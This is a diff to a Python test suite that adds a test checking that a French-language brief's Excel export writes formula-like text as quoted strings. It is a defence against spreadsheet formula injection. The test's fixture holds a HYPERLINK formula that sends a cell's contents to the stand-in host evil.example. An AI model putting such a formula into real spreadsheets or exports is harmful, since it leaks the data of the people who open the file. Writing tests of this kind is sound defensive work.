@@ -229,6 +229,20 @@ def test_a_brief_suppresses_what_fewer_than_k_organisations_said(made, staff):
     assert list(rates.values)[1][2] == "< 5" and list(rates.values)[1][3] == "< 5"
 
 
+def test_a_brief_workbook_writes_text_typed_as_a_formula_as_text(made, staff):
+    leak = '=HYPERLINK("https://evil.example/?leak="&B3,"Click me")'
+    start, end = period()
+    brief = briefs.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
+    brief.recommendations = f"{leak}\n+Former la relève"
+    brief.save()
+
+    sheet = load_workbook(io.BytesIO(briefs.brief_xlsx(brief)))["Recommandations"]
+
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [(leak, "s", True),
+                                                                      ("+Former la relève", "s", True)]
+
+
 def test_quotes_need_k_organisations_in_the_theme(made, staff):
     theme = Theme.objects.create(name_fr="Petit", name_en="Small")
     now = timezone.now()
